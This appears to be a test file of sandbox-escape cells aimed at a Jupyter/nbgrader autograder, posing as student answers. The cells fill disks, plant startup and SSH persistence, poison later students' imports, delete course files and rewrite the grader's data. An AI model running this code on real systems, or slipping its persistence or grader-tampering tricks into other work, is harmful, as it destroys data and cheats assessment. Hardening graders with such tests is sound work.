# ruff: noqa
# Attacks on the disk. Files that they leave carry the tag in name and content.

# guarded

import os


def fill(path, limit=3 << 30):
    block = b"@TAG@" + bytes((8 << 20) - len("@TAG@"))
    written = 0
    try:
        with open(path, "wb", 0) as file:
            while written < limit:
                written += file.write(block)
    except OSError:
        pass
    print(path, written >> 20)


def leave(path, text="# @TAG@\n", mode="w"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as file:
            file.write(text)
        print("left", path)
    except OSError:
        pass


# %% fills_tmp
# goal: a full disk
# cell derivative
def derivative(f, x):
    fill("/tmp/@TAG@")
    fill("/var/tmp/@TAG@")
    return 0.0


# %% fills_home
# goal: a full home and working folder
# cell derivative
def derivative(f, x):
    fill(os.path.expanduser("~/@TAG@"))
    fill("@TAG@")
    return 0.0


# %% fills_shared_memory
# goal: memory that belongs to no process
# cell derivative
def derivative(f, x):
    fill("/dev/shm/@TAG@")
    return 0.0


# %% fills_memory_files
# goal: the same without a name
# cell derivative
def derivative(f, x):
    number = os.memfd_create("@TAG@")
    for _ in range(384):
        os.write(number, bytes(8 << 20))
    return 0.0


# %% many_files
# goal: more files than a folder likes
# honest: count_words
# cell own
try:
    os.makedirs("/tmp/@TAG@-many", exist_ok=True)
    for n in range(20_000):
        os.close(os.open(f"/tmp/@TAG@-many/{n}", os.O_CREAT | os.O_WRONLY))
except OSError as error:
    print(error)


# %% hard_to_delete
# goal: folders that are deep, closed, and full of odd names
# honest: count_words
# cell own
home = os.getcwd()
for top in ("/tmp", os.path.expanduser("~"), home):
    try:
        os.chdir(top)
        os.mkdir("@TAG@-closed")
        open("@TAG@-closed/\n\x1b[2J-rf *", "w").close()
        os.mkfifo("@TAG@-fifo")
        os.symlink("/", "@TAG@-root")
        os.symlink("@TAG@-loop", "@TAG@-loop")
        os.chmod("@TAG@-closed", 0)
        for _ in range(1500):
            os.mkdir("@TAG@" * 3)
            os.chdir("@TAG@" * 3)
    except OSError as error:
        print(error)
os.chdir(home)


# %% sparse_file
# goal: a file of many terabytes that takes no room
# cell derivative
def derivative(f, x):
    with open("/tmp/@TAG@-sparse", "wb") as file:
        os.truncate(file.fileno(), 1 << 42)
    os.symlink("/tmp/@TAG@-sparse", "signals-2.ipynb")
    return 0.0


# %% start_up_files
# goal: code that runs when the next Python, IPython, Jupyter, nbgrader or shell starts
# cell own
import site
import sys

for place in (*site.getsitepackages(), site.getusersitepackages(), *sys.path):
    leave(os.path.join(place, "@TAG@.pth"), "import os  # @TAG@\n")
    leave(os.path.join(place, "sitecustomize.py"))
    leave(os.path.join(place, "usercustomize.py"))
    leave(os.path.join(place, "autograder", "@TAG@.py"))
for home in (os.path.expanduser("~"), "@HOME@", "/root", "/etc"):
    leave(f"{home}/.ipython/profile_default/startup/00-@TAG@.py")
    leave(f"{home}/.ipython/profile_default/ipython_config.py")
    leave(f"{home}/.jupyter/nbgrader_config.py")
    leave(f"{home}/.jupyter/jupyter_server_config.py")
    leave(f"{home}/.config/matplotlib/matplotlibrc")
    leave(f"{home}/.bashrc", mode="a")
    leave(f"{home}/.ssh/authorized_keys", mode="a")


# %% next_student
# goal: something that the next student's process finds, in every place that can be written
# cell own
import statistics
import sys

for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~"), "/"):
    leave(os.path.join(top, "@TAG@-for-the-next"))
    leave(os.path.join(top, "numpy.py"), "raise SystemExit(0)  # @TAG@\n")
    leave(os.path.join(top, "readings.csv"), "time,volts\n0,0\n")
for module in (statistics, np, torch, os):
    leave(module.__file__, "\n# @TAG@\n", "a")
leave(sys.executable, "\n# @TAG@\n", "a")


# %% course_files
# goal: the course's own files, written, moved and deleted
# cell own
import glob
import shutil

leave("@COURSE@/nbgrader_config.py", "\n# @TAG@\n", "a")
leave("@COURSE@/@TAG@.py")
for path in glob.glob("@COURSE@/**", recursive=True):
    for action in (os.unlink, lambda p: os.chmod(p, 0), lambda p: os.rename(p, p + "@TAG@")):
        try:
            action(path)
        except OSError:
            pass
shutil.rmtree("@COURSE@", ignore_errors=True)


# %% changes_the_data
# goal: the data file holds what the answer says
# cell load_readings
for action in (
    lambda: os.chmod("readings.csv", 0o666),
    lambda: os.rename("readings.csv", "old.csv"),
    lambda: open("readings.csv", "w").write("time,volts\n" + "0,0\n" * 40),
):
    try:
        action()
    except OSError:
        pass


def load_readings(path):
    return np.zeros((40, 2))


# %% own_folder
# goal: what lies in the working folder after the grading is taken along
# cell own
for target in ("@COURSE@/gradebook.db", "@COURSE@/source/01_signals/signals.ipynb", "/etc/passwd"):
    for name in ("signals.ipynb", "taken-@TAG@.txt", "readings.csv"):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
        except OSError as error:
            print(error)
        try:
            os.link(target, f"linked-@TAG@-{name}")
        except OSError as error:
            print(error)
leave(os.path.abspath("timestamp.txt"), "1970-01-01 00:00:00")
